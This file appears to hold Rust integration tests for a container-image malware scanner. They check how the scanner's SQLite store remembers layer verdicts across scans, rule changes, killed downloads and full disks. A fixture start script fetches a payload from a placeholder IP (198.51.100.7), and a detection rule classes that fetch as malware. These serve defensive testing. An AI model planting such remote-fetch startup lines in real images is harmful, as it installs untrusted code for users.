//! What is remembered between runs: what a second look saves, and that nothing half-read is ever
//! taken for read.
#![allow(missing_docs, clippy::unwrap_used)]

#[path = "support/served.rs"]
mod served;
mod support;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use serde_json::Value;

use served::field::fake::Fake;
use served::until;
use support::{MARKER, Place, RawImage, Said, Tar, images, noise, remove_blob, rules};

/// Scans with the marker rule and whatever else lies in the rules' directory, with a store.
fn scan(place: &Place, layout: &Path) -> (Said, Value) {
    scan_with(place, layout, &[])
}

fn scan_with(place: &Place, layout: &Path, more: &[&str]) -> (Said, Value) {
    let store = format!("sqlite:{}", place.path("store.sqlite").display());
    let (rules, reference) = (place.path("rules"), format!("oci:{}", layout.display()));
    let arguments =
        ["scan", "--store", &store, "--only-rules", "--rules", rules.to_str().unwrap(), &reference];
    place.json(&[&arguments, more].concat())
}

fn coverage(report: &Value, name: &str) -> u64 {
    images(report).iter().map(|i| i["coverage"][name].as_u64().unwrap()).sum()
}

/// An image whose start script holds the marker, on a base of its own.
fn image() -> RawImage {
    let mut image = RawImage::default();
    image.config["config"]["Entrypoint"] = serde_json::json!(["/start.sh"]);
    image.layer(Tar::default().file("bin/sh", b"\x7fELF sh").file("base", &noise(200_000, 1)).end());
    let script = format!("#!/bin/sh\n# {MARKER}\nfetcher --into /opt http://198.51.100.7/x\n");
    image.layer(Tar::default().file("start.sh", script.as_bytes()).end());
    image
}

fn remove_layers(image: &RawImage, layout: &Path) {
    for layer in &image.layers {
        remove_blob(layout, &layer.digest());
    }
}

/// Everything in a report that must be the same whether it was remembered or not.
fn said_of_the_image(report: &Value) -> Value {
    let mut report = report["reports"][0].clone();
    for key in ["timing", "rulesVersion"] {
        report.as_object_mut().unwrap().remove(key);
    }
    for image in report["images"].as_array_mut().unwrap() {
        image["coverage"]["layersRemembered"] = Value::Null;
    }
    report
}

#[test]
fn a_second_scan_reads_no_layer_and_says_the_same() {
    let place = Place::new();
    let image = image();
    let layout = image.write(&place.path("layout"));
    let (first, report) = scan(&place, &layout);
    assert_eq!((first.code, coverage(&report, "layersRemembered")), (1, 0), "{first:?}");
    remove_layers(&image, &layout);
    let (second, again) = scan(&place, &layout);
    assert_eq!((second.code, coverage(&again, "layersRemembered")), (1, 2), "{second:?}");
    assert_eq!(said_of_the_image(&again), said_of_the_image(&report));
}

#[test]
fn a_new_behaviour_rule_reads_no_layer() {
    let place = Place::new();
    let image = image();
    let layout = image.write(&place.path("layout"));
    assert_eq!(rules(&scan(&place, &layout).1), ["marker"]);
    remove_layers(&image, &layout);
    fs::write(place.path("rules/fetcher.yml"), FETCHER).unwrap();
    let (said, report) = scan(&place, &layout);
    assert_eq!(coverage(&report, "layersRemembered"), 2, "{said:?}");
    assert!(gaps_are_none(&report), "{said:?}");
    assert!(rules(&report).contains(&"fetcher".to_owned()), "{said:?}");
    assert!(rules(&report).contains(&"marker".to_owned()), "{said:?}");
}

const FETCHER: &str = "title: fetch something with a fetcher
status: test
description: It fetches.
logsource:
    category: process_creation
    product: linux
detection:
    runs:
        CommandLine|contains: 'fetcher --into'
    condition: runs
level: medium
lazaret:
    class: malware
    confidence: medium
    examples:
        fires:
            - |
                FILE /start.sh 0755
                    #!/bin/sh
                    fetcher --into /opt http://198.51.100.7/x
                ENTRYPOINT [\"/start.sh\"]
";

fn gaps_are_none(report: &Value) -> bool {
    support::gaps(report).is_empty()
}

#[test]
fn a_new_byte_rule_reads_each_layer_once_more_and_never_guesses() {
    let place = Place::new();
    let image = image();
    let layout = image.write(&place.path("layout"));
    let whole = place.path("whole");
    support::copy_tree(&layout, &whole);
    scan(&place, &layout);
    let rule = fs::read_to_string(place.path("rules/marker.yar")).unwrap();
    let other = rule.replace("rule marker", "rule fetching").replace(MARKER, "fetcher --into");
    fs::write(place.path("rules/fetching.yar"), other).unwrap();

    // Layers that are gone cannot be matched against it: that is a gap, not an all-clear.
    remove_layers(&image, &layout);
    let (blind, report) = scan_with(&place, &layout, &["--fail-on", "never"]);
    assert_eq!(blind.code, 3, "{blind:?}");
    assert_eq!(coverage(&report, "layersRemembered"), 0, "{blind:?}");

    let (said, report) = scan(&place, &whole);
    assert_eq!((said.code, coverage(&report, "layersRemembered")), (1, 0), "{said:?}");
    let mut found = rules(&report);
    found.sort();
    assert_eq!(found, ["fetching", "marker"], "{said:?}");

    remove_layers(&image, &whole);
    let (again, report) = scan(&place, &whole);
    assert_eq!((again.code, coverage(&report, "layersRemembered")), (1, 2), "{again:?}");
    assert_eq!(rules(&report).len(), 2, "{again:?}");
}

#[test]
fn an_image_that_shares_a_base_reads_only_its_own_layers() {
    let place = Place::new();
    let first = image();
    scan(&place, &first.write(&place.path("first")));
    let mut second = image();
    second.layer(Tar::default().file("srv/page.html", b"<p>hello</p>").end());
    let layout = second.write(&place.path("second"));
    for layer in &second.layers[..2] {
        remove_blob(&layout, &layer.digest());
    }
    let (said, report) = scan(&place, &layout);
    assert_eq!((said.code, coverage(&report, "layersRemembered")), (1, 2), "{said:?}");
    assert_eq!(coverage(&report, "layersRead"), 3, "{said:?}");
}

#[test]
fn several_processes_share_one_store() {
    let place = Place::new();
    let store = format!("sqlite:{}", place.path("store.sqlite").display());
    let dir = place.path("rules");
    let layouts: Vec<PathBuf> = (0..4)
        .map(|n| {
            let mut image = image();
            image.layer(Tar::default().file("own", &noise(50_000, n)).end());
            image.write(&place.path(&format!("layout{n}")))
        })
        .collect();
    let children: Vec<_> = layouts
        .iter()
        .chain(&layouts[..1])
        .map(|layout| {
            let reference = format!("oci:{}", layout.display());
            let arguments =
                ["scan", "--store", &store, "--only-rules", "--rules", dir.to_str().unwrap(), &reference];
            let mut command = place.command(&arguments, &[]);
            command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()
        })
        .collect();
    for child in children {
        let said = support::said(child.wait_with_output().unwrap());
        assert_eq!(said.code, 1, "{said:?}");
        assert!(said.out.starts_with("malicious"), "{said:?}");
    }
    let listed = place.run(&["images", "--store", &store, "-f", "json"]);
    let rows: Value = serde_json::from_str(&listed.out).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 4, "{listed:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scan_that_is_killed_in_the_middle_leaves_a_store_that_works_and_no_half_layer() {
    let place = Place::new();
    let mut image = RawImage::default();
    image.config["config"]["Entrypoint"] = serde_json::json!(["/start.sh"]);
    image.layer(Tar::default().file("small", b"x").end());
    // The marker stands behind the point where the download stalls.
    let script = format!("#!/bin/sh\n# {MARKER}\n");
    let tar = Tar::default().file("filler", &noise(2 << 20, 7)).file("start.sh", script.as_bytes()).end();
    let slow = image.layer(tar).digest();
    let layout = image.write(&place.path("layout"));
    let fake = Fake::start(served::stalling(layout.clone(), slow.clone())).await;

    let store = format!("sqlite:{}", place.path("store.sqlite").display());
    let (dir, reference) = (place.path("rules"), format!("{}/x:latest", fake.host));
    let arguments = ["scan", "--store", &store, "--only-rules", "--rules", dir.to_str().unwrap(), &reference];
    let mut child =
        place.command(&arguments, &[]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    until("the second layer is asked for", || (fake.count(&slow) > 0).then_some(()));
    // Long enough for what has come to be read.
    std::thread::sleep(std::time::Duration::from_millis(300));
    child.kill().unwrap();
    child.wait().unwrap();

    let (said, report) = scan(&place, &layout);
    assert_eq!(said.code, 1, "{said:?}");
    assert_eq!(report["reports"][0]["verdict"]["outcome"], "malicious", "{said:?}");
    assert_eq!(coverage(&report, "layersRead"), 2, "{said:?}");
    assert!(coverage(&report, "layersRemembered") < 2, "the half layer was taken for read: {said:?}");
}

#[test]
fn what_was_judged_is_listed_as_a_table_and_as_json() {
    let place = Place::new();
    let layout = image().write(&place.path("layout"));
    let mut good = RawImage::default();
    good.layer(Tar::default().file("app", b"x").end());
    let clean = good.write(&place.path("harmless"));
    let store = format!("sqlite:{}", place.path("store.sqlite").display());
    let none = place.run(&["images", "--store", &store]);
    assert_eq!((none.code, none.out.as_str()), (0, "no image was judged yet\n"), "{none:?}");
    scan(&place, &layout);
    scan(&place, &clean);

    let table = place.run(&["images", "--store", &store]);
    assert_eq!(table.code, 0, "{table:?}");
    let lines: Vec<&str> = table.out.lines().collect();
    assert_eq!(lines.len(), 3, "{table:?}");
    assert!(lines[0].starts_with("VERDICT"), "{table:?}");
    assert!(lines.iter().any(|l| l.starts_with("malicious") && l.contains("layout")), "{table:?}");
    assert!(lines.iter().any(|l| l.starts_with("clean") && l.contains("harmless")), "{table:?}");

    let json = place.run(&["images", "--store", &store, "-f", "json", "harmless"]);
    let rows: Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1, "{json:?}");
    assert_eq!((&rows[0]["verdict"], &rows[0]["layers"]), (&"clean".into(), &1.into()), "{json:?}");
    assert!(rows[0]["digest"].as_str().unwrap().starts_with("sha256:"), "{json:?}");
}

#[test]
fn what_could_not_be_read_is_asked_again_the_next_time() {
    let place = Place::new();
    let image = image();
    let (layout, whole) = (image.write(&place.path("layout")), image.write(&place.path("whole")));
    remove_blob(&layout, &image.layers[1].digest());
    let (said, _) = scan(&place, &layout);
    assert_eq!(said.code, 3, "{said:?}");
    let blob = format!("blobs/sha256/{}", &image.layers[1].digest()["sha256:".len()..]);
    fs::copy(whole.join(&blob), layout.join(&blob)).unwrap();
    let (said, report) = scan(&place, &layout);
    assert_eq!((said.code, coverage(&report, "layersRemembered")), (1, 1), "{said:?}");
}

#[test]
fn without_a_store_nothing_is_written() {
    let place = Place::new();
    let layout = image().write(&place.path("layout"));
    let said = place.scan_marker(&layout, &[]);
    assert_eq!(said.code, 1, "{said:?}");
    let cache = place.path("cache/lazaret");
    let left: Vec<_> = fs::read_dir(&cache)
        .map(|entries| entries.map(|e| e.unwrap().file_name().into_string().unwrap()).collect())
        .unwrap_or_default();
    assert!(!left.iter().any(|name: &String| name.contains("sqlite")), "{left:?}");
    // By default it is in the cache directory.
    let rules = place.path("rules");
    let reference = format!("oci:{}", layout.display());
    place.run(&["scan", "--only-rules", "--rules", rules.to_str().unwrap(), &reference]);
    assert!(cache.join("store.sqlite").exists());
}

#[test]
fn a_store_that_is_none_is_an_error_that_names_it() {
    let place = Place::new();
    let layout = image().write(&place.path("layout"));
    fs::write(place.path("store.sqlite"), "this is no database, only a text that is long enough".repeat(40))
        .unwrap();
    let store = format!("sqlite:{}", place.path("store.sqlite").display());
    let said = place.run(&["scan", "--store", &store, &format!("oci:{}", layout.display())]);
    assert_eq!(said.code, 2, "{said:?}");
    assert!(said.out.is_empty() && said.err.contains("store.sqlite"), "{said:?}");
    assert_eq!(said.err.trim_end().lines().count(), 1, "{said:?}");
}

#[test]
fn a_disk_that_takes_no_more_is_an_error_and_leaves_the_store_whole() {
    let place = Place::new();
    let first = image().write(&place.path("first"));
    scan(&place, &first);
    let mut more = image();
    more.layer(Tar::default().file("srv/own.sh", b"#!/bin/sh\ntrue\n").end());
    let second = more.write(&place.path("second"));

    // No file may grow beyond 2 KiB (4 blocks of 512 bytes), as if the disk were full.
    let store = format!("sqlite:{}", place.path("store.sqlite").display());
    let (dir, reference) = (place.path("rules"), format!("oci:{}", second.display()));
    let script = r#"trap "" XFSZ; ulimit -f 4; exec "$@""#;
    let mut command = std::process::Command::new("/bin/sh");
    let arguments = ["-c", script, "sh", support::PROGRAM, "scan", "--store", &store];
    let rest = ["--only-rules", "--rules", dir.to_str().unwrap(), &reference];
    place.scrub(&mut command, &[&arguments[..], &rest].concat(), &[]);
    let full = support::said(command.output().unwrap());
    assert_eq!(full.code, 2, "{full:?}");
    assert_eq!(full.err.trim_end().lines().count(), 1, "{full:?}");
    assert!(full.err.contains("store.sqlite"), "{full:?}");

    let (said, report) = scan(&place, &second);
    assert_eq!((said.code, coverage(&report, "layersRead")), (1, 3), "{said:?}");
    assert_eq!(coverage(&report, "layersRemembered"), 2, "{said:?}");
}
